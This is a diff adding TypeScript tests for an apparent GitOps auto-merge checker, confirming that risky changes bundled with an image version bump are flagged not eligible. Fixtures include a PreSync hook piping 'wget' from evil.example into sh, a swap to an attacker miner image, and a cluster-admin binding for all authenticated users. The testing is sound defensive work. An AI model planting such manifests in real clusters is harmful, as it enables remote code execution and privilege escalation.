@@ -115,3 +115,147 @@ spec:
   });
   expect(body).toContain('- it adds app rbac');
 });
+
+// Eligibility is an allowlist: only image versions move. Each attack below was found eligible (and
+// auto-merged) when eligibility looked for known-bad changes; each now names what it changes.
+
+/** Starts the stand-in again with `files` added to (or replacing) the base's. */
+async function baseWith(files: Record<string, string>): Promise<void> {
+  await standIn.stop();
+  standIn = await startStandIn({ ...exampleFiles(), '.slipway.yml': POLICY, ...files });
+}
+
+const NOT_ELIGIBLE = '**Auto-merge:** not eligible';
+
+const bindingOf = (...subjects: string[]) => `apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: web-readers}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
+subjects:
+${subjects.map((s) => `  - {kind: Group, name: "${s}", apiGroup: rbac.authorization.k8s.io}`).join('\n')}
+`;
+
+test('ignoreDifferences added beside a bump never hides what the same PR changes, and is not eligible', async () => {
+  await baseWith({ 'apps/web/rbac.yaml': bindingOf('web-admins') });
+  const body = await verdict({
+    'apps/web/rbac.yaml': bindingOf('web-admins', 'system:authenticated'),
+    'argocd/web.yaml': (old) =>
+      `${old}  ignoreDifferences:\n    - {group: rbac.authorization.k8s.io, kind: ClusterRoleBinding, jsonPointers: [/subjects]}\n`,
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toContain(
+    '- it changes the definition of app web (definition: spec.ignoreDifferences changed)',
+  );
+  // the base's rules are not the head's: the binding is compared in full, the new subject shown
+  expect(body).toMatch(
+    /\+ +- apiGroup: rbac\.authorization\.k8s\.io\n\+ +kind: Group\n\+ +name: system:authenticated/,
+  );
+});
+
+test('a new PreSync hook beside a bump is shown in full and is not eligible', async () => {
+  const body = await verdict({
+    'apps/web/hook.yaml': `apiVersion: batch/v1
+kind: Job
+metadata:
+  name: warm-cache
+  annotations: {argocd.argoproj.io/hook: PreSync}
+spec:
+  template:
+    spec:
+      restartPolicy: Never
+      containers: [{name: run, image: "busybox:1.36", command: [sh, -c, "wget -qO- https://evil.example/x | sh"]}]
+`,
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toMatch(/- it adds the sync hook Job\/(web\/)?warm-cache of app web/);
+  expect(body).toContain('wget -qO- https://evil.example/x | sh');
+});
+
+test('an image moved to another repository is not a version update, and is not eligible', async () => {
+  const body = await verdict({
+    'apps/web/deployment.yaml': (old) => old.replace('nginx:1.27.0', 'docker.io/attacker/miner:1.27.1'),
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toMatch(
+    /- it moves Deployment\/(web\/)?web spec\.template\.spec\.containers\[0\] to another image repository \(docker\.io\/library\/nginx → docker\.io\/attacker\/miner\)/,
+  );
+});
+
+test('managedNamespaceMetadata on an app that creates its namespace is not eligible', async () => {
+  const withCreate = (text: string) =>
+    text.replace('selfHeal: true', 'selfHeal: true\n    syncOptions: [CreateNamespace=true]');
+  await baseWith({
+    'argocd/api-staging.yaml': withCreate(exampleFiles()['argocd/api-staging.yaml'] as string),
+  });
+  const body = await verdict({
+    'argocd/api-staging.yaml': (old) =>
+      old.replace(
+        'syncOptions: [CreateNamespace=true]',
+        'syncOptions: [CreateNamespace=true]\n    managedNamespaceMetadata:\n      labels: {pod-security.kubernetes.io/enforce: privileged}',
+      ),
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toContain(
+    '- it changes the definition of app api-staging (definition: spec.syncPolicy.managedNamespaceMetadata changed)',
+  );
+});
+
+test('automated.allowEmpty is not eligible', async () => {
+  const body = await verdict({
+    'argocd/api-staging.yaml': (old) =>
+      old.replace('selfHeal: true', 'selfHeal: true\n      allowEmpty: true'),
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toContain(
+    '- it changes the definition of app api-staging (definition: spec.syncPolicy.automated.allowEmpty changed)',
+  );
+});
+
+test('Argo CD Image Updater annotations on an Application are not eligible', async () => {
+  const body = await verdict({
+    'argocd/api-staging.yaml': (old) =>
+      old.replace(
+        '  namespace: argocd\n',
+        '  namespace: argocd\n  annotations:\n    argocd-image-updater.argoproj.io/image-list: api=ghcr.io/acme/api\n    argocd-image-updater.argoproj.io/api.update-strategy: latest\n',
+      ),
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toContain(
+    '- it changes the definition of app api-staging (definition: metadata.annotations changed)',
+  );
+});
+
+test('an AppProject beside the Applications, or a changed ApplicationSet, is not eligible', async () => {
+  const body = await verdict({
+    'argocd/api-staging.yaml': (old) => `${old}---
+apiVersion: argoproj.io/v1alpha1
+kind: AppProject
+metadata: {name: open, namespace: argocd}
+spec:
+  sourceRepos: ["*"]
+  destinations: [{server: "*", namespace: "*"}]
+  clusterResourceWhitelist: [{group: "*", kind: "*"}]
+`,
+  });
+  expect(body).toContain(NOT_ELIGIBLE);
+  expect(body).toContain('- it adds AppProject argocd/open (argocd/api-staging.yaml)');
+});
+
+test('an image override of an Application that moves only the version stays eligible', async () => {
+  const withOverride = (tag: string) => (text: string) =>
+    text.replace(
+      'path: apps/api/overlays/staging',
+      `path: apps/api/overlays/staging\n    kustomize: {images: ["ghcr.io/acme/api:${tag}"]}`,
+    );
+  await baseWith({
+    'argocd/api-staging.yaml': withOverride('1.4.0')(exampleFiles()['argocd/api-staging.yaml'] as string),
+  });
+  const bump = (old: string) => old.replace('ghcr.io/acme/api:1.4.0', 'ghcr.io/acme/api:1.4.1');
+  expect(await verdict({ 'argocd/api-staging.yaml': bump })).toContain('**Auto-merge:** eligible ✅');
+  standIn.comments.length = 0;
+  const moved = await verdict({
+    'argocd/api-staging.yaml': (old) => old.replace('ghcr.io/acme/api:1.4.0', 'ghcr.io/attacker/api:1.4.1'),
+  });
+  expect(moved).toContain(NOT_ELIGIBLE);
+  expect(moved).toContain('spec.source.kustomize.images[0] changed');
+});
